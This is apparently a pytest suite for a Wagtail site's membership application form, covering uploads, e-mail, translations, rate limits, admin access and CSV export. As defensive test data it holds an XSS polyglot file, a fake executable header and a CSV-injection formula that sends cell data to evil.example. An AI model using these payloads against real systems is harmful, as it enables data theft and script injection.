import csv
import io
import re

import pytest
from bs4 import BeautifulSoup
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from wagtail.contrib.forms.models import FormSubmission
from wagtail.documents.models import Document
from wagtail.models import Site

from editorial.roles import setup_roles
from involved.models import SecretariatSettings
from tests.editorial.factories import UserFactory

from .factories import JoinFormPageFactory

pytestmark = pytest.mark.django_db

URL = "/en/get-involved/join/"
PDF = b"%PDF-1.4\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 64
POLYGLOT = b"%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n%%EOF\n"


@pytest.fixture
def join_page(get_involved):
    return JoinFormPageFactory(parent=get_involved)


def application(**changes):
    data = {
        "organisation": "Sols Vivants",
        "college": "ngos-civil-society",
        "country": "SN",
        "contact_person": "Awa Diop",
        "email": "awa@example.org",
        "commitment": "We will train 200 farmers in agroforestry.",
        "consent": "on",
        "website": "",
    }
    data.update(changes)
    return {key: value for key, value in data.items() if value is not None}


def error_for(response, name):
    soup = BeautifulSoup(response.content, "html.parser")
    error = soup.find(id=f"id_{name}_error")
    field = soup.find(id=f"id_{name}")
    # The message is next to the field and the field points to it for screen readers.
    assert error is not None
    assert f"id_{name}_error" in field["aria-describedby"]
    return error.get_text(strip=True)


def kept_values(response):
    soup = BeautifulSoup(response.content, "html.parser")
    return {
        "organisation": soup.find(id="id_organisation")["value"],
        "country": soup.find(id="id_country").find("option", selected=True)["value"],
        "commitment": soup.find(id="id_commitment").get_text(strip=True),
    }


def test_the_form_page_is_private_to_the_visitor(client, join_page):
    response = client.get(URL)
    assert response.status_code == 200
    assert "private" in response["Cache-Control"]
    assert 'name="csrfmiddlewaretoken"' in response.content.decode()


def test_a_valid_application_is_stored_and_e_mailed_with_its_declaration(client, join_page):
    declaration = SimpleUploadedFile("Awa Diop - lettre.pdf", PDF, content_type="application/pdf")
    response = client.post(URL, application(declaration=declaration))

    assert response.status_code == 200
    assert "Thank you" in response.content.decode()
    assert "private" in response["Cache-Control"]

    submission = FormSubmission.objects.get(page=join_page)
    data = submission.get_data()
    assert data["organisation"] == "Sols Vivants"
    assert data["college"] == "NGOs and civil society"
    assert data["country"] == "Senegal (SN)"
    assert data["consent"] == "Yes"
    document = Document.objects.get()
    assert data["declaration"] == document.url
    # Stored under a name that says nothing of the applicant, in a folder nobody can guess.
    assert re.fullmatch(r"documents/[0-9a-f]{32}/declaration-of-intent\.pdf", document.file.name)
    assert document.collection.name == "Declarations of intent"
    assert document.collection.get_view_restrictions().exists()

    (message,) = mail.outbox
    assert message.to == ["secretariat@example.org"]
    assert message.reply_to == ["awa@example.org"]
    assert message.subject == "New application"
    assert "Contact person: Awa Diop" in message.body
    assert "Commitment statement: We will train 200 farmers in agroforestry." in message.body
    assert message.attachments == [("declaration-of-intent.pdf", PDF, "application/pdf")]


def test_the_confirmation_and_the_stored_labels_in_french(client, join_page, fr, translate):
    translate(join_page, fr, {"Join the Initiative": "Rejoindre l’Initiative"})
    response = client.post("/fr/get-involved/join/", application(college="research-education"))
    assert "Merci" in response.content.decode()
    data = FormSubmission.objects.get().get_data()
    # Stored in the Secretariat's language whatever the applicant's.
    assert data["college"] == "Research and education"
    assert data["language"] == "French"


def test_an_invalid_e_mail_is_shown_next_to_the_field_and_nothing_typed_is_lost(client, join_page):
    response = client.post(URL, application(email="awa@"))
    assert response.status_code == 200
    assert error_for(response, "email") == "Enter a valid email address."
    assert kept_values(response) == {
        "organisation": "Sols Vivants",
        "country": "SN",
        "commitment": "We will train 200 farmers in agroforestry.",
    }
    assert not FormSubmission.objects.exists()
    assert mail.outbox == []


def test_errors_are_in_the_visitor_language(client, join_page, es, translate):
    translate(join_page, es, {"Join the Initiative": "Unirse a la Iniciativa"})
    response = client.post("/es/get-involved/join/", application(consent=None))
    assert error_for(response, "consent") == (
        "Dé su consentimiento para que podamos tramitar el formulario."
    )


def test_a_file_that_is_not_a_pdf_is_rejected(client, join_page):
    renamed = SimpleUploadedFile(
        "declaration.pdf", b"GIF89a not a pdf", content_type="application/pdf"
    )
    response = client.post(URL, application(declaration=renamed))
    assert error_for(response, "declaration") == "Please choose a PDF file."
    assert kept_values(response)["organisation"] == "Sols Vivants"

    for content in (EXE, POLYGLOT):
        disguised = SimpleUploadedFile("declaration.pdf", content, content_type="application/pdf")
        response = client.post(URL, application(declaration=disguised))
        assert error_for(response, "declaration") == "Please choose a PDF file."

    text = SimpleUploadedFile("declaration.txt", PDF, content_type="text/plain")
    response = client.post(URL, application(declaration=text))
    assert error_for(response, "declaration") == "Please choose a PDF file."
    assert not FormSubmission.objects.exists()
    assert not Document.objects.exists()


@override_settings(JOIN_FORM_MAX_UPLOAD_SIZE=1024)
def test_an_oversized_pdf_is_rejected(client, join_page):
    big = SimpleUploadedFile(
        "declaration.pdf", PDF + b"0" * (3 * 1024 - len(PDF)), content_type="application/pdf"
    )
    response = client.post(URL, application(declaration=big))
    assert error_for(response, "declaration") == (
        "This file is 3.0\xa0KB; the limit is 1.0\xa0KB. Please choose a smaller PDF file."
    )
    assert kept_values(response)["commitment"] == "We will train 200 farmers in agroforestry."
    assert not FormSubmission.objects.exists()


def test_the_honeypot_is_hidden_and_robots_filling_it_are_ignored(client, join_page):
    soup = BeautifulSoup(client.get(URL).content, "html.parser")
    honeypot = soup.find(id="id_website")
    assert "hp-field" in honeypot.find_parent(class_="field")["class"]

    response = client.post(URL, application(website="https://spam.example.com"))
    assert response.status_code == 200
    assert "Thank you" in response.content.decode()
    assert not FormSubmission.objects.exists()
    assert mail.outbox == []


@override_settings(JOIN_FORM_RATE_LIMIT=(2, 3600))
def test_too_many_applications_from_one_address_are_refused(client, join_page):
    for _ in range(2):
        assert "Thank you" in client.post(URL, application()).content.decode()
    response = client.post(URL, application())
    assert response.status_code == 429
    assert "Too many forms were sent from your connection" in response.content.decode()
    assert kept_values(response)["organisation"] == "Sols Vivants"
    assert FormSubmission.objects.count() == 2
    # Another visitor is not affected.
    other = client.post(URL, application(), REMOTE_ADDR="192.0.2.7")
    assert "Thank you" in other.content.decode()


def test_the_secretariat_reads_and_exports_submissions_in_the_admin(
    client, admin_client, join_page
):
    client.post(URL, application())
    listing = admin_client.get(f"/admin/forms/submissions/{join_page.pk}/")
    assert listing.status_code == 200
    assert "Sols Vivants" in listing.content.decode()
    export = admin_client.get(f"/admin/forms/submissions/{join_page.pk}/?export=csv")
    header, row = export.getvalue().decode().strip().splitlines()
    assert header.startswith("Submission date,Organisation,College,Country,Contact person")
    assert "Senegal (SN)" in row
    assert admin_client.get(f"/admin/pages/{join_page.pk}/edit/").status_code == 200


def test_the_submissions_export_shows_formulas_as_text(client, admin_client, join_page):
    formula = '=HYPERLINK("http://evil.example/?d="&A2,"Open")'
    client.post(URL, application(organisation=formula, contact_person="@SUM(1+1)"))
    export = admin_client.get(f"/admin/forms/submissions/{join_page.pk}/?export=csv")
    (row,) = list(csv.DictReader(io.StringIO(export.getvalue().decode())))
    assert row["Organisation"] == "'" + formula
    assert row["Contact person"] == "'@SUM(1+1)"


def test_only_the_secretariat_sees_the_applications(client, join_page, fr, translate):
    setup_roles(log=lambda message: None)
    french_page = translate(join_page, fr, {"Join the Initiative": "Rejoindre l’Initiative"})
    client.post(URL, application())
    client.post("/fr/get-involved/join/", application(organisation="Sols de France"))
    for page in (join_page, french_page):
        for url in (
            f"/admin/forms/submissions/{page.pk}/",
            f"/admin/forms/submissions/{page.pk}/?export=csv",
            f"/admin/forms/submissions/{page.pk}/delete/",
        ):
            for group in ("Editors", "French translators", "Spanish translators"):
                client.force_login(UserFactory(groups=[group]))
                refused = client.get(url)
                # Wagtail's admin answers "permission denied" by sending back to its home.
                assert (refused.status_code, refused["Location"]) == (302, "/admin/"), (group, url)
            client.force_login(UserFactory(groups=["Moderators"]))
            assert client.get(url).status_code == 200, url
    # Nor is the Forms menu offered to them.
    client.force_login(UserFactory(groups=["Editors"]))
    assert "/admin/forms/" not in client.get("/admin/").content.decode()
    client.force_login(UserFactory(groups=["Moderators"]))
    assert "/admin/forms/" in client.get("/admin/").content.decode()


def test_without_a_to_address_the_secretariat_settings_address_gets_it(client, join_page):
    join_page.to_address = ""
    join_page.save_revision().publish()
    secretariat = SecretariatSettings.for_site(Site.objects.get(is_default_site=True))
    secretariat.email = "contact@example.org"
    secretariat.save()
    client.post(URL, application())
    assert [message.to for message in mail.outbox] == [["contact@example.org"]]


@override_settings(JOIN_FORM_RATE_LIMIT=(1, 3600), TRUST_X_FORWARDED_FOR=True)
def test_behind_the_proxy_the_limit_is_per_visitor_not_per_proxy(client, join_page):
    proxy = {"REMOTE_ADDR": "127.0.0.1"}
    first = client.post(URL, application(), HTTP_X_FORWARDED_FOR="198.51.100.1", **proxy)
    second = client.post(URL, application(), HTTP_X_FORWARDED_FOR="198.51.100.2", **proxy)
    again = client.post(URL, application(), HTTP_X_FORWARDED_FOR="198.51.100.1", **proxy)
    assert [first.status_code, second.status_code, again.status_code] == [200, 200, 429]
